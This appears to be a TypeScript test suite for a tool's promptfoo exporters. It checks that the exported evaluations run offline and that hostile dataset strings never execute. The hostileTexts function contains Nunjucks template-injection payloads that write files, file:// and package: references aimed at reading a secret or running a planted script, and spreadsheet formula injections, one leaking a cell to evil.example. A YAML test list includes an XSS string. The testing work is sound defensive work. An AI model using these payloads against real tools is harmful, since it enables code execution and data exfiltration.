/**
 * The promptfoo export evaluated by the real promptfoo CLI (0.115.0, installed by .ci/run in .ci/promptfoo) against
 * `quiver serve` as an OpenAI provider: the adversarial cases fail and the controls pass, as recorded, in the YAML,
 * CSV and JSONL forms. promptfoo is kept offline: telemetry and update checks off, its own folder in a temp dir,
 * and any remaining outbound request sent to a closed local proxy port; a preloaded probe records every connection.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { createRequire } from 'node:module';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { nunjucksLiteral } from './nunjucks-literal.js';
import { toYaml } from './yaml.js';

const root = fileURLToPath(new URL('../..', import.meta.url));
const cli = join(root, 'dist', 'bin', 'quiver.js');
const pfDir = join(root, '.ci', 'promptfoo');
const promptfoo = join(pfDir, 'node_modules', 'promptfoo', 'dist', 'src', 'main.js');
const skip = !existsSync(promptfoo)
  ? 'promptfoo is not installed (.ci/run installs it: PLAYWRIGHT_SKIP_BROWSER_DOWNLOAD=1 npm install --prefix ' +
    '.ci/promptfoo promptfoo@0.115.0)'
  : !existsSync(cli) && 'run npm run build first';

const work = mkdtempSync(join(tmpdir(), 'quiver-promptfoo-'));
let server: ChildProcess | undefined;
let baseUrl = '';

after(() => {
  server?.kill();
});

function quiver(...args: string[]) {
  const r = spawnSync(process.execPath, [cli, ...args], { cwd: work, encoding: 'utf8', timeout: 300_000 });
  assert.equal(r.status, 0, r.stderr);
  return r;
}

function startServe(): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = spawn(
      process.execPath,
      [cli, 'serve', '--model', 'local:wink', '--port', '0', '--answer', 'label', '--input-marker', ''],
      { cwd: work, stdio: ['ignore', 'pipe', 'pipe'] },
    );
    server = child;
    let out = '';
    let err = '';
    const timer = setTimeout(() => reject(new Error(`quiver serve did not start: ${out}${err}`)), 30_000);
    child.stdout!.on('data', (d: Buffer) => {
      out += d.toString();
      const m = /quiver serve: listening on (http:\/\/127\.0\.0\.1:\d+\/v1)/.exec(out);
      if (m) {
        clearTimeout(timer);
        resolve(m[1]!);
      }
    });
    child.stderr!.on('data', (d: Buffer) => (err += d.toString()));
    child.on('exit', (code) => reject(new Error(`quiver serve exited ${code}: ${err}`)));
  });
}

interface PromptfooResult {
  readonly success: boolean;
  readonly prompt: { readonly raw: string };
  readonly response?: { readonly output?: unknown };
  readonly testCase: { readonly metadata?: Record<string, unknown> };
}

function evaluate(config: string, name: string): { code: number | null; results: PromptfooResult[]; hosts: string[] } {
  const netLog = join(work, `${name}.net.log`);
  writeFileSync(netLog, '');
  const env: NodeJS.ProcessEnv = { ...process.env };
  for (const k of ['OPENAI_API_KEY', 'OPENAI_BASE_URL', 'OPENAI_API_BASE_URL', 'NODE_TEST_CONTEXT']) delete env[k];
  Object.assign(env, {
    PROMPTFOO_DISABLE_TELEMETRY: '1',
    PROMPTFOO_DISABLE_UPDATE: '1',
    PROMPTFOO_DISABLE_REDTEAM_REMOTE_GENERATION: '1',
    PROMPTFOO_DISABLE_SHARING: '1',
    PROMPTFOO_DISABLE_ERROR_LOG: '1',
    PROMPTFOO_CONFIG_DIR: join(work, `${name}.promptfoo`),
    // promptfoo 0.115 still posts a "telemetry disabled" event: it goes to a closed local port instead.
    HTTPS_PROXY: 'http://127.0.0.1:9',
    HTTP_PROXY: 'http://127.0.0.1:9',
    NO_PROXY: '127.0.0.1,localhost',
    NODE_OPTIONS: `--require ${join(root, 'src', 'exporters', 'fixtures', 'net-log.cjs')}`,
    QUIVER_NET_LOG: netLog,
  });
  const out = join(work, `${name}.results.json`);
  const r = spawnSync(
    process.execPath,
    [promptfoo, 'eval', '-c', config, '--no-cache', '--no-table', '--no-progress-bar', '-o', out],
    { cwd: work, encoding: 'utf8', env, timeout: 120_000 },
  );
  assert.ok(
    existsSync(out),
    `promptfoo wrote no results (exit ${r.status}): ${r.stdout.slice(-2000)}${r.stderr.slice(-2000)}`,
  );
  const results = (JSON.parse(readFileSync(out, 'utf8')) as { results: { results: PromptfooResult[] } }).results
    .results;
  return { code: r.status, results, hosts: readFileSync(netLog, 'utf8').trim().split('\n').filter(Boolean) };
}

/** Every adversarial case fails with the label recorded in the campaign, every control passes. */
function checkAsRecorded(
  results: readonly PromptfooResult[],
  expected: { adversarial: number; controls: number },
): void {
  const byKind = (k: string) => results.filter((r) => r.testCase.metadata?.quiverKind === k);
  const adversarial = byKind('adversarial');
  const controls = byKind('control');
  assert.equal(adversarial.length, expected.adversarial);
  assert.equal(controls.length, expected.controls);
  for (const r of adversarial) {
    assert.equal(r.success, false, `adversarial case passed: ${r.prompt.raw}`);
    assert.equal(r.response?.output, r.testCase.metadata?.recordedLabel, r.prompt.raw);
  }
  for (const r of controls)
    assert.equal(r.success, true, `control failed: ${r.prompt.raw} -> ${String(r.response?.output)}`);
}

/** Every input reached the model verbatim, the template-like text included (promptfoo renders vars as Nunjucks). */
function checkVerbatim(results: readonly PromptfooResult[]): void {
  const texts = new Map(
    readFileSync(join(work, 'quiver-suite.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .slice(1)
      .map((l) => {
        const c = JSON.parse(l) as { kind: string; id: string; text: string };
        return [`${c.kind}/${c.id}`, c.text];
      }),
  );
  for (const r of results)
    assert.equal(
      r.prompt.raw,
      texts.get(`${String(r.testCase.metadata?.quiverKind)}/${String(r.testCase.metadata?.exampleId)}`),
    );
  const tpl = results.find((r) => r.testCase.metadata?.exampleId === 'tpl');
  assert.ok(tpl !== undefined, 'the templated example is in the suite');
  assert.match(tpl.prompt.raw, /\{\{ product \}\}/);
}

const TEMPLATED = 'Great {{ product }} and {% if x %}tags{% endif %}, "quoted", highly recommended.';

test('a campaign whose dataset includes template-like text, and quiver serve in front of the same model', {
  skip,
}, async () => {
  const demo = readFileSync(join(root, 'experiments', 'data', 'demo-reviews.jsonl'), 'utf8')
    .trim()
    .split('\n')
    .slice(0, 30);
  const extra = [JSON.stringify({ id: 'tpl', text: TEMPLATED, label: 'positive' })];
  writeFileSync(join(work, 'data.jsonl'), `${[...demo, ...extra].join('\n')}\n`);
  quiver('run', '--dataset', 'data.jsonl', '--workers', '2', '--out', 'camp');
  baseUrl = await startServe();
  quiver('export', 'camp', '--format', 'promptfoo', '--controls', '--api-base-url', baseUrl, '--out', 'suite.yaml');
  quiver('export', 'camp', '--format', 'promptfoo-csv', '--controls', '--out', 'suite.csv');
  quiver('export', 'camp', '--format', 'promptfoo-jsonl', '--controls', '--out', 'suite.jsonl');
  quiver('export', 'camp', '--format', 'jsonl', '--controls', '--out', 'quiver-suite.jsonl');
});

function counts(): { adversarial: number; controls: number } {
  const header = JSON.parse(readFileSync(join(work, 'quiver-suite.jsonl'), 'utf8').split('\n')[0]!) as {
    cases: { adversarial: number; controls: number };
  };
  return header.cases;
}

test('promptfoo eval of the YAML suite: adversarial cases fail and controls pass, as recorded, offline', {
  skip,
}, () => {
  const { code, results, hosts } = evaluate('suite.yaml', 'yaml');
  const n = counts();
  assert.ok(n.adversarial > 0 && n.controls > 0);
  checkAsRecorded(results, n);
  assert.equal(code, 100, 'promptfoo exits 100 when tests fail');
  checkVerbatim(results);
  assert.ok(hosts.length >= results.length, 'the probe saw the provider calls');
  assert.deepEqual([...new Set(hosts)], ['127.0.0.1'], 'no connection left the loopback interface');
});

test('promptfoo eval of the CSV and JSONL test files gives the same outcomes', { skip }, () => {
  for (const form of ['csv', 'jsonl']) {
    const config = toYaml({
      prompts: ['{{text}}'],
      providers: [{ id: 'openai:chat:local:wink', config: { apiBaseUrl: baseUrl, apiKeyRequired: false } }],
      defaultTest: { options: { transform: 'output.trim()' } },
      tests: `file://suite.${form}`,
    });
    writeFileSync(join(work, `${form}.yaml`), config);
    const { code, results, hosts } = evaluate(`${form}.yaml`, form);
    checkAsRecorded(results, counts());
    checkVerbatim(results);
    assert.equal(code, 100);
    assert.deepEqual([...new Set(hosts)], ['127.0.0.1']);
  }
});

/**
 * Dataset texts that attacked promptfoo 0.115 through earlier exports: Nunjucks payloads (also around `endraw`, which
 * broke the old raw-block escaping), file and package references (read, executed or imported by promptfoo), and
 * spreadsheet formulas. Each carries plain sentiment words so that local:wink labels it as given.
 */
function hostileTexts(): { id: string; text: string; label: string }[] {
  const write = (name: string) => `process.getBuiltinModule('fs').writeFileSync('${join(work, name)}','ran')`;
  return [
    {
      id: 'h-endraw',
      text: `{{ range.constructor("return ${write('pwned-endraw')}")() }} endraw, a wonderful, delightful film.`,
      label: 'positive',
    },
    {
      id: 'h-close',
      text:
        `{% endraw %}{{ range.constructor("return ${write('pwned-close')}")() }}{% raw %} a dreadful, boring, ` +
        `awful mess.`,
      label: 'negative',
    },
    {
      id: 'h-math',
      text: '{% raw %}{{ 7*7 }} endraw {% endraw %} great fun, I loved it, excellent.',
      label: 'positive',
    },
    { id: 'h-comment', text: 'a {# comment #} superb #} moving, beautiful story.', label: 'positive' },
    { id: 'h-file', text: `file://${join(work, 'secret.txt')}`, label: 'negative' },
    { id: 'h-js', text: `file://${join(work, 'evil.js')}`, label: 'negative' },
    { id: 'h-package', text: 'package:node:fs:readFileSync terrible, awful, boring', label: 'negative' },
    {
      id: 'h-formula',
      text: '=HYPERLINK("http://evil.example/?leak="&A1,"click") what a great, wonderful film',
      label: 'positive',
    },
    { id: 'h-plus', text: '+1 brilliant, lovely acting', label: 'positive' },
    { id: 'h-at', text: '@SUM(1+1) dull, awful and boring', label: 'negative' },
  ];
}

const CANARY = 'QUIVER-CANARY-SECRET';

test("promptfoo's own renderPrompt gives back every text nunjucksLiteral encodes (20,000 random hostile strings)", {
  skip,
}, async () => {
  const require = createRequire(join(pfDir, 'node_modules', 'promptfoo', 'package.json'));
  const { renderPrompt } = require(join(pfDir, 'node_modules', 'promptfoo', 'dist', 'src', 'evaluatorHelpers.js')) as {
    renderPrompt(
      prompt: { raw: string; label: string },
      vars: Record<string, string>,
      filters: object,
    ): Promise<string>;
  };
  const alphabet = [
    '{',
    '}',
    '%',
    '#',
    '-',
    ' ',
    '"',
    "'",
    '\\',
    '\n',
    '\t',
    '\r',
    '\u2028',
    'raw',
    'endraw',
    '{{',
    '}}',
    '{%',
    '%}',
    '{#',
    '#}',
    'file://',
    'package:',
    '=',
    '+',
    '@',
    'x',
    'é',
    '😀',
  ];
  let seed = 7;
  const next = () => {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    return seed / 2147483648;
  };
  for (let i = 0; i < 20_000; i++) {
    let s = '';
    for (let k = 1 + Math.floor(next() * 10); k > 0; k--) s += alphabet[Math.floor(next() * alphabet.length)];
    assert.equal(
      await renderPrompt({ raw: '{{text}}', label: 'p' }, { text: nunjucksLiteral(s) }, {}),
      s,
      JSON.stringify(s),
    );
  }
});

test('a campaign on hostile dataset texts, exported in the three promptfoo forms', { skip }, () => {
  writeFileSync(join(work, 'secret.txt'), `${CANARY}\n`);
  writeFileSync(
    join(work, 'evil.js'),
    `require('node:fs').writeFileSync(${JSON.stringify(join(work, 'pwned-js'))}, 'ran');\nmodule.exports = () => ({ ` +
      `output: '${CANARY}' });\n`,
  );
  writeFileSync(
    join(work, 'hostile.jsonl'),
    `${hostileTexts()
      .map((t) => JSON.stringify(t))
      .join('\n')}\n`,
  );
  quiver('run', '--dataset', 'hostile.jsonl', '--workers', '1', '--out', 'hostile');
  quiver(
    'export',
    'hostile',
    '--format',
    'promptfoo',
    '--controls',
    '--api-base-url',
    baseUrl,
    '--out',
    'hostile.yaml',
  );
  quiver('export', 'hostile', '--format', 'promptfoo-csv', '--controls', '--out', 'hostile.csv');
  quiver('export', 'hostile', '--format', 'promptfoo-jsonl', '--controls', '--out', 'hostile-tests.jsonl');
  quiver('export', 'hostile', '--format', 'jsonl', '--controls', '--out', 'hostile-suite.jsonl');
});

test('promptfoo eval of hostile suites: nothing executes, no file is read, each test sends the text Quiver found', {
  skip,
}, () => {
  const suite = readFileSync(join(work, 'hostile-suite.jsonl'), 'utf8')
    .trim()
    .split('\n')
    .slice(1)
    .map((l) => JSON.parse(l) as { kind: string; id: string; text: string });
  const sent = new Map(suite.map((c) => [`${c.kind}/${c.id}`, c.text]));
  assert.deepEqual(
    new Set(suite.map((c) => c.id)),
    new Set(hostileTexts().map((t) => t.id)),
    'every hostile text is in the suite',
  );
  const forms: [string, string][] = [
    ['yaml', 'hostile.yaml'],
    ...['csv', 'jsonl'].map((form): [string, string] => {
      const file = form === 'csv' ? 'hostile.csv' : 'hostile-tests.jsonl';
      writeFileSync(
        join(work, `hostile-${form}.yaml`),
        toYaml({
          prompts: ['{{text}}'],
          providers: [{ id: 'openai:chat:local:wink', config: { apiBaseUrl: baseUrl, apiKeyRequired: false } }],
          defaultTest: { options: { transform: 'output.trim()' } },
          tests: `file://${file}`,
        }),
      );
      return [form, `hostile-${form}.yaml`];
    }),
  ];
  for (const [form, config] of forms) {
    const { results } = evaluate(config, `hostile-${form}`);
    assert.equal(results.length, suite.length, `${form}: promptfoo ran every test (none aborted the eval)`);
    for (const r of results) {
      const key = `${String(r.testCase.metadata?.quiverKind)}/${String(r.testCase.metadata?.exampleId)}`;
      assert.equal(r.prompt.raw, sent.get(key), `${form}: ${key} sent exactly the text Quiver found`);
      assert.ok(!JSON.stringify(r).includes(CANARY), `${form}: ${key} read a local file`);
    }
    const controls = results.filter((r) => r.testCase.metadata?.quiverKind === 'control');
    for (const r of controls) assert.equal(r.success, true, `${form}: control failed: ${r.prompt.raw}`);
    for (const name of ['pwned-endraw', 'pwned-close', 'pwned-js'])
      assert.ok(!existsSync(join(work, name)), `${form}: ${name} was written: code ran`);
  }
});

test('the YAML emitter round-trips hostile strings through the parser promptfoo uses (js-yaml)', { skip }, () => {
  const require = createRequire(join(pfDir, 'node_modules', 'promptfoo', 'package.json'));
  const yaml = require('js-yaml') as { load(s: string): unknown };
  const nasty = [
    'yes',
    'no',
    'null',
    '~',
    '0x1F',
    '1e3',
    '-',
    '- item',
    ': colon',
    '#hash',
    'a # b',
    '&anchor',
    '*alias',
    '!tag',
    '%dir',
    '@at',
    '`tick`',
    '"dq"',
    "'sq'",
    '{flow: map}',
    '[flow, seq]',
    '|',
    '>',
    ' leading',
    'trailing ',
    'tab\there',
    'multi\nline\n',
    'crlf\r\n',
    'nul\u0000',
    'bell\u0007',
    'del\u007f',
    'nel\u0085',
    'ls\u2028ps\u2029',
    '\uFEFFbom',
    'é😀',
    '<img src=x onerror=alert(1)>',
    '{{ var }}',
    '',
    '\\',
    'back\\slash\\n',
    'c1\u0090',
    'non\uFFFEchar\uFFFF',
    'a text longer than a folded line would be, with a break\n  and an indented second line ',
  ];
  const doc = { tests: nasty.map((s) => ({ vars: { text: s }, metadata: { [s === '' ? 'empty' : `k ${s}`]: s } })) };
  assert.deepEqual(yaml.load(toYaml(doc)), doc);
});
